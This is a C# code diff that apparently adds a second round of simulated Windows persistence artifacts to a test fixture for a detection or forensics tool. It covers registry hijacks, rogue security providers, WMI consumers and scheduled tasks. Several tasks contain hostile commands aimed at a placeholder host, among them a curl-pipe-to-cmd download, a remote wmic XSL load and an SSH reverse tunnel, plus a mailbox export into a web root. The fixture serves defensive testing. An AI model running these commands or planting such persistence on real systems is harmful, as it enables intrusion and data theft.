@@ -60,5 +60,51 @@ internal static class PlantedCases
         ("startup3.exe", one => one.File(@"C:\Users\admin\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\startup3.exe", "MZ\0\0 startup3")),
         ("gpstart.bat", one => one.File(@"C:\Windows\System32\GroupPolicy\Machine\Scripts\scripts.ini", "[Startup]\r\n0CmdLine=C:\\Windows\\Temp\\gpstart.bat\r\n0Parameters=\r\n")),
         ("profile.ps1", one => one.File(@"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1", "& C:\\Users\\Public\\p.exe\r\n")),
+        // Second round.
+        ("failcmd2", one =>
+        {
+            one.Service("ContosoSync", @"C:\Program Files\Contoso\sync.exe");
+            one.System(@"Services\ContosoSync", "FailureCommand", @"C:\Users\Public\failcmd2.exe");
+        }),
+        ("rootdll5.dll", one =>
+        {
+            one.Service("NcaHlp", @"%SystemRoot%\System32\svchost.exe -k netsvcs");
+            one.System(@"Services\NcaHlp", "ServiceDll", @"C:\ProgramData\rootdll5.dll");
+        }),
+        ("timeprov7.dll", one => one.System(@"Services\W32Time\TimeProviders\NtpAux", "DllName", @"C:\ProgramData\timeprov7.dll")),
+        ("gpext4.dll", one => one.Software($@"{Nt}\Winlogon\GPExtensions\{{D02B1F72-3407-48AE-BA88-E8213C6761F0}}", "DllName", @"C:\Windows\Temp\gpext4.dll")),
+        ("prtproc6.dll", one => one.System(@"Control\Print\Environments\Windows x64\Print Processors\hpx", "Driver", @"..\..\..\..\..\..\ProgramData\prtproc6.dll")),
+        ("nppspy3.dll", one =>
+        {
+            one.System(@"Control\NetworkProvider\Order", "ProviderOrder", "RDPNP,LanmanWorkstation,webclient,nppspy3");
+            one.System(@"Services\nppspy3\NetworkProvider", "ProviderPath", @"C:\ProgramData\nppspy3.dll");
+        }),
+        ("evilssp8", one => one.System(@"Control\SecurityProviders", "SecurityProviders", "credssp.dll, evilssp8.dll")),
+        ("sysprof9.dll", one =>
+        {
+            one.System(@"Control\Session Manager\Environment", "COR_ENABLE_PROFILING", "1");
+            one.System(@"Control\Session Manager\Environment", "COR_PROFILER_PATH", @"C:\ProgramData\sysprof9.dll");
+        }),
+        ("hooks2.dll", one => one.System(@"Control\Session Manager\Environment", "DOTNET_STARTUP_HOOKS", @"C:\Users\Public\hooks2.dll")),
+        ("initprog1.exe", one => one.System(@"Control\Terminal Server\WinStations\RDP-Tcp", "InitialProgram", @"C:\Users\Public\initprog1.exe")),
+        ("evilrdp6", one => one.System(@"Control\Terminal Server\Wds\rdpwd", "StartupPrograms", "rdpclip,evilrdp6")),
+        ("rdpwrap.dll", one => one.Service("TermService", @"%SystemRoot%\System32\svchost.exe -k termsvcs", @"%ProgramFiles%\RDP Wrapper\rdpwrap.dll")),
+        ("tsrun5", one => one.Software($@"{Nt}\Terminal Server\Install\Software\Microsoft\Windows\CurrentVersion\Run", "tsrun5", @"C:\Users\Public\tsrun5.exe")),
+        ("polshell3.exe", one => one.Software($@"{Windows}\Policies\System", "Shell", @"explorer.exe,C:\Windows\Temp\polshell3.exe")),
+        ("exeassoc4.exe", one => one.Software(@"Classes\exefile\shell\open\command", "", @"C:\ProgramData\exeassoc4.exe ""%1"" %*")),
+        ("loadval2.exe", one => one.User(@"Software\Microsoft\Windows NT\CurrentVersion\Windows", "Load", @"C:\Users\Public\loadval2.exe")),
+        ("hosts7.bak", one => one.Task(@"\hosts7", "cmd.exe", @"/c powershell -c ""iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((Get-Content C:\Windows\System32\drivers\etc\hosts7.bak))))""")),
+        ("wmicx.xsl", one => one.Task(@"\wmicx", "wmic.exe", @"os get /format:""http://203.0.113.9/wmicx.xsl""")),
+        ("curlpipe", one => one.Task(@"\curlpipe", @"C:\Windows\System32\cmd.exe", @"/c ""curl -s http://203.0.113.9/curlpipe|cmd""")),
+        ("sshback", one => one.Task(@"\sshback", @"C:\Windows\System32\OpenSSH\ssh.exe", @"-N -R 0.0.0.0:33890:localhost:3389 -o StrictHostKeyChecking=no tun@203.0.113.9")),
+        ("expreq8", one => one.Task(@"\expreq8", "powershell.exe", @"-c ""Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox ceo -FilePath \\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\expreq8.aspx""")),
+        ("netshell1", one => one.File(@"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Config\web.config", @"<?xml version=""1.0""?><configuration><system.web><httpModules><add name=""netshell1"" type=""Contoso.Web.netshell1, netshell1"" /></httpModules></system.web></configuration>")),
+        ("wmibind5", one => one.Event("Microsoft-Windows-WMI-Activity/Operational", "Microsoft-Windows-WMI-Activity", 5861, ("Namespace", @"//./root/subscription"), ("ESS", "wmibind5"), ("CONSUMER", "CommandLineEventConsumer=\"wmibind5\""), ("PossibleCause", "Binding EventFilter: instance of __EventFilter { Name = \"wmibind5\"; }; Perm. Consumer: instance of CommandLineEventConsumer { CommandLineTemplate = \"powershell -ep bypass -f C:\\\\Users\\\\Public\\\\wmibind5.ps1\"; Name = \"wmibind5\"; };"))),
+        ("DefaultAccount2", one =>
+        {
+            one.Event("Security", "Microsoft-Windows-Security-Auditing", 4720, ("TargetUserName", "DefaultAccount2$"), ("TargetDomainName", "EX01"), ("TargetSid", "S-1-5-21-1-2-3-1009"), ("SubjectUserName", "EX01$"), ("SubjectUserSid", "S-1-5-18"));
+            one.Event("Security", "Microsoft-Windows-Security-Auditing", 4732, ("MemberName", "-"), ("MemberSid", "S-1-5-21-1-2-3-1009"), ("TargetUserName", "Administrators"), ("TargetDomainName", "Builtin"), ("TargetSid", "S-1-5-32-544"), ("SubjectUserName", "EX01$"), ("SubjectUserSid", "S-1-5-18"));
+        }),
+        ("fwrule3.exe", one => one.System(@"Services\SharedAccess\Parameters\FirewallPolicy\FirewallRules", "{1}", @"v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|App=C:\ProgramData\fwrule3.exe|Name=Core Networking|")),
     ];
 }
